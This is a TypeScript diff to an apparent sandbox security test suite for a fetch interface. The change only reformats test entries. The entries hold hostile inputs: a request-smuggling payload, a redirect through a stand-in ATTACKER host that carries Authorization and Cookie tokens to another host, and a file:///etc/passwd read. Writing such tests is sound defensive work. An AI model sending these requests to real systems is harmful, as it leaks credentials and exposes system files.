@@ -61,7 +61,9 @@ const raw: [string, string, Attempt['effect']][] = [
   ],
   [
     'smuggle by the length',
-    `{ ...${GET}, method: 'POST', url: ATTACKER + '/echo', headers: [['content-length', '0'], ['transfer-encoding', 'chunked']], body: Buffer.from('0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nsmuggled: 1\\r\\n\\r\\n').toString('base64') }`,
+    `{ ...${GET}, method: 'POST', url: ATTACKER + '/echo', headers: [['content-length', '0'],
+      ['transfer-encoding', 'chunked']],
+      body: Buffer.from('0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nsmuggled: 1\\r\\n\\r\\n').toString('base64') }`,
     smuggled,
   ],
   [
@@ -77,7 +79,8 @@ const raw: [string, string, Attempt['effect']][] = [
   ],
   [
     'carry a token to another host',
-    `{ ...${GET}, url: ATTACKER + '/redirect?to=' + OTHER + '/echo', headers: [['Authorization', 'token-of-mine'], ['Cookie', 'token-of-mine']] }`,
+    `{ ...${GET}, url: ATTACKER + '/redirect?to=' + OTHER + '/echo', headers: [['Authorization',
+      'token-of-mine'], ['Cookie', 'token-of-mine']] }`,
     told(/token-of-mine/),
   ],
   ['read a file by its URL', `{ ...${GET}, url: 'file:///etc/passwd' }`, told(/root:|cm9vd/)],
@@ -140,7 +143,11 @@ function fetching(request: string): Attempt['code'] {
        rest += chunk
        const lines = rest.split('\\n')
        rest = lines.pop()
-       for (const line of lines) { const frame = JSON.parse(line); if (frame.fetch === 77) { wire.off('data', listen); done(frame) } }
+       for (const frame of lines.map((line) => JSON.parse(line))) {
+         if (frame.fetch !== 77) continue
+         wire.off('data', listen)
+         done(frame)
+       }
      }))
      wire.write(JSON.stringify({ type: 'fetch', fetch: 77, turn, ...${request} }) + '\\n')
      const frame = await answer
